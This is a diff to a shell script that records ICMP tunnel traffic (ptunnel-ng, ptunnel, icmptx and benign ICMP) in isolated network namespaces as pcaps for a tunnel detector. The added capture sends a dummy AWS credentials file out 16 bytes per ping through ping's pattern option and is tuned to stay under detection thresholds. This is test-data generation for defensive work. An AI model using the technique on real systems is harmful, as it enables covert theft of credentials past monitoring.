@@ -5,7 +5,9 @@
 # unreachables), into pcaps/detect/icmp_*.pcap
 #
 # README
-#   sudo pcaps/record_icmp_tunnels.sh [OUTDIR]   (default: pcaps/detect beside this script)
+#   sudo pcaps/record_icmp_tunnels.sh [OUTDIR [CAPTURE]]   (default: pcaps/detect beside
+#   this script, every capture; CAPTURE, one name below without .pcap, records that one
+#   alone, and the tunnels' programs are then needed only for their own)
 #
 # Needs root, /dev/net/tun (icmptx), iproute2, ethtool, ptunnel-ng, ptunnel, icmptx,
 # iputils-ping, iputils-tracepath, traceroute, mtr-tiny, python3, dumpcap and tshark.
@@ -50,6 +52,12 @@
 #                               packet too big), traceroute (UDP and -I), tracepath, mtr
 #                               --report (ICMP), a UDP datagram to a closed port (port
 #                               unreachable), pings to the prohibited addresses (v4, v6)
+#   icmp_pattern.pcap           a file sent out in ping's pattern: 12 pings (ping -c 1
+#                               -s 32 -p HEX, one process each), each carrying the
+#                               next 16 bytes of a credentials file as its pattern, all
+#                               answered (data that changes at every echo, 32 bytes of
+#                               it each, at under 4.2 bits/byte: under the size, entropy
+#                               and volume thresholds)
 #
 # Every client is bounded (timeout around each, ping -c/-w, python socket timeouts); every
 # loop that waits is bounded. A second dumpcap on the router's two ports records
@@ -64,6 +72,18 @@ set -eu
 HERE=$(cd "$(dirname "$0")" && pwd)
 . "$HERE/../tests/lib/netns.sh"
 OUTDIR=${1:-$HERE/detect}
+ONLY=${2:-}
+# want CAPTURE...: is one of them to be recorded
+want() {
+	local c
+	[ -z "$ONLY" ] && return 0
+	for c in "$@"; do [ "$c" = "$ONLY" ] && return 0; done
+	return 1
+}
+case "$ONLY" in
+'' | icmp_ptunnel_ng | icmp_ptunnel_ng_small | icmp_ptunnel | icmptx | icmp_benign | icmp_pattern) ;;
+*) echo "record_icmp_tunnels.sh: no capture named $ONLY" >&2; exit 2 ;;
+esac
 NS_A=ewi4-agent
 NS_R=ewi4-router
 NS_S=ewi4-server
@@ -88,11 +108,18 @@ TX_A=10.55.4.242
 netns_init record_icmp_tunnels.sh /tmp/ew-record-icmp.XXXXXX "$ALL_NS"
 
 [ "$(id -u)" -eq 0 ] || { echo "record_icmp_tunnels.sh: must run as root" >&2; exit 2; }
-for t in ip ethtool ptunnel-ng ptunnel icmptx ping tracepath traceroute mtr python3 \
-	dumpcap tshark timeout; do
+TOOLS="ip ethtool ping python3 dumpcap tshark timeout"
+want icmp_ptunnel_ng icmp_ptunnel_ng_small && TOOLS="$TOOLS ptunnel-ng"
+want icmp_ptunnel && TOOLS="$TOOLS ptunnel"
+want icmptx && TOOLS="$TOOLS icmptx"
+want icmp_benign && TOOLS="$TOOLS tracepath traceroute mtr"
+for t in $TOOLS; do
 	command -v "$t" >/dev/null || { echo "record_icmp_tunnels.sh: $t not found" >&2; exit 2; }
 done
-[ -c /dev/net/tun ] || { echo "record_icmp_tunnels.sh: /dev/net/tun missing (icmptx needs it)" >&2; exit 2; }
+if want icmptx && [ ! -c /dev/net/tun ]; then
+	echo "record_icmp_tunnels.sh: /dev/net/tun missing (icmptx needs it)" >&2
+	exit 2
+fi
 mkdir -p "$OUTDIR"
 
 netns_clear_leftovers
@@ -247,6 +274,7 @@ agent() { netns_log_exec "$NS_A" "$TMP/agent.log" "$@"; } # agent CMD...: log, n
 CHAT=(timeout 45 python3 "$TMP/client.py" chat 127.0.0.1)
 
 # 1. ptunnel-ng: the proxy in the server, the client in the agent listening on :2222
+if want icmp_ptunnel_ng icmp_ptunnel_ng_small; then
 netns_bg "$NS_S" timeout 200 ptunnel-ng -r127.0.0.1 -R7777 -v1 >"$TMP/ptng-proxy.log" 2>&1
 P1=$NETNS_PID
 sleep 0.5
@@ -264,8 +292,10 @@ stop_capture
 stop_pid "$P2" TERM
 stop_pid "$P1" TERM
 sleep 1
+fi
 
 # 2. ptunnel (the original, 0.72): the same, client on :2223
+if want icmp_ptunnel; then
 netns_bg "$NS_S" timeout 120 ptunnel -v 1 >"$TMP/pt-proxy.log" 2>&1
 P1=$NETNS_PID
 sleep 0.5
@@ -280,12 +310,14 @@ stop_capture
 stop_pid "$P2" TERM
 stop_pid "$P1" TERM
 sleep 1
+fi
 
 # 3. icmptx: IP over ICMP echo between tun devices; its server wants the kernel's echo
 # replies off. The responder listens behind the tunnel on 10.55.4.241:7778. No ping
 # across the tunnel: icmptx's server answers whoever sent it the last ICMP message,
 # its raw socket sees the inner ping on its own tun device too, and it then loops its
 # own replies back into the tunnel.
+if want icmptx; then
 ip netns exec "$NS_S" sysctl -qw net.ipv4.icmp_echo_ignore_all=1
 netns_bg "$NS_S" timeout 120 icmptx -s "$IP_S" >"$TMP/icmptx-server.log" 2>&1
 P1=$NETNS_PID
@@ -307,8 +339,10 @@ stop_pid "$P2" TERM
 stop_pid "$P1" TERM
 ip netns exec "$NS_S" sysctl -qw net.ipv4.icmp_echo_ignore_all=0
 sleep 1
+fi
 
 # 4. benign ICMP
+if want icmp_benign; then
 start_capture icmp_benign
 agent ping -n -c 3 -i 0.2 -W 2 -w 5 "$IP_S"
 agent ping -n -c 3 -i 0.2 -W 2 -w 5 -s 100 "$IP_S"
@@ -331,11 +365,27 @@ except OSError as e: print('udp :9:', e)"
 agent ping -n -c 2 -i 0.3 -W 1 -w 3 "$IP_NO"
 agent ping -6 -n -c 2 -i 0.3 -W 1 -w 3 "$IP6_NO"
 stop_capture
+fi
+
+# 5. a file sent out 16 bytes a ping, each its pattern (a send-only channel: the server's
+# kernel answers every echo with the same bytes)
+if want icmp_pattern; then
+printf '%s\n' 'aws_access_key_id = AKIAEXAMPLE7QX2KJ4ZT' \
+	'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' 'region = us-east-1' \
+	'aws_session_token = IQoJb3JpZ2luX2VjEXAMPLETOKENvalue0123456789abcdef' >"$TMP/secret"
+start_capture icmp_pattern
+od -An -v -tx1 -w16 "$TMP/secret" | tr -d ' ' | head -12 | while read -r hex; do
+	agent ping -n -c 1 -W 2 -w 3 -s 32 -p "$hex" "$IP_S"
+	sleep 0.2
+done
+stop_capture
+fi
 
 # --- audit: no packet may have gone to an address outside these hosts ------------------
 netns_audit_finish "10\.55\.4\.(1|10|65|80|200|241|242)|fd55:4::(1|10|101|180|200)|fe80::[0-9a-f:]+|ff02::[0-9a-f:]+"
 
-ALL="icmp_ptunnel_ng icmp_ptunnel_ng_small icmp_ptunnel icmptx icmp_benign"
+ALL="icmp_ptunnel_ng icmp_ptunnel_ng_small icmp_ptunnel icmptx icmp_benign icmp_pattern"
+[ -z "$ONLY" ] || ALL=$ONLY
 for f in $ALL; do
 	cp "$TMP/$f.pcap" "$OUTDIR/$f.pcap"
 	chmod 644 "$OUTDIR/$f.pcap"
@@ -344,4 +394,4 @@ for f in $ALL; do
 done
 echo "record_icmp_tunnels.sh: client results:"
 grep -a -E '^(chat|bulk|udp)|packets transmitted' "$TMP/agent.log" | sed 's/, time .*//' | sort | uniq -c
-echo "record_icmp_tunnels.sh: responder: $(cat "$TMP/echo.log" "$TMP/echo-tx.log" | tr '\n' ';')"
+echo "record_icmp_tunnels.sh: responder: $(cat "$TMP/echo.log" "$TMP/echo-tx.log" 2>/dev/null | tr '\n' ';')"
